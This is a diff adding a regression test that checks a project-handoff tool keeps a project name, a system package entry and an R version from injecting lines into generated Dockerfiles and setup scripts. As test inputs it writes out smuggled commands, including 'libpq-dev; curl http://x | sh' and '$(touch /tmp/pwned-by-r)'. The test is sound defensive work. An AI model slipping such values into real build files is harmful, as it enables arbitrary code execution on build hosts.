@@ -106,3 +106,29 @@ def test_a_project_name_cannot_break_out_of_a_comment_or_a_docstring(tmp_path):
 
 def test_comment_text_is_one_inert_line():
     assert comment_text('a\r\nb\u2028c "d" \\e') == "a b c 'd' /e"
+
+
+def test_the_container_recipe_takes_no_line_from_a_project_name_a_package_or_an_r_version(tmp_path):
+    """Failed before: the project name went raw into the '#' comments of the Dockerfile and .dockerignore,
+    handoff.yaml's system_packages into `apt-get install`, and renv.lock's R version into setup.sh's echo
+    and the FROM line, so each could add a RUN line or a shell command."""
+    from handoff_assistant.bundle.container import ContainerFacts, container_files
+    from handoff_assistant.bundle.r_env import REnvironment, r_environment
+    from handoff_assistant.bundle.system_packages import system_packages
+
+    name = "Churn\nRUN touch /pwned-by-name"
+    facts = ContainerFacts("churn", "churn", "/opt/churn", "3.11.7", True, REnvironment(),
+                           system_packages([], []), True, False)
+    for path, text in container_files(facts, [], name).items():
+        assert "\nRUN touch /pwned-by-name" not in text, path
+
+    with pytest.raises(ProjectFileError, match=r"system_packages\[1\]: must be a package name .* not "
+                                               r"'libpq-dev; curl http://x \| sh'"):
+        parse_project_file("name: x\nsystem_packages:\n  - gdal-bin\n  - 'libpq-dev; curl http://x | sh'\n")
+    assert parse_project_file("name: x\nsystem_packages: [libgdal-dev, g++, python3.11-venv]\n").system_packages \
+        == ("libgdal-dev", "g++", "python3.11-venv")
+
+    (tmp_path / "renv.lock").write_text('{"R": {"Version": "4.3$(touch /tmp/pwned-by-r)"}, "Packages": {}}')
+    assert r_environment(tmp_path, ("renv.lock",), ()).version == ""
+    (tmp_path / "renv.lock").write_text('{"R": {"Version": "4.3.1"}, "Packages": {}}')
+    assert r_environment(tmp_path, ("renv.lock",), ()).version == "4.3.1"
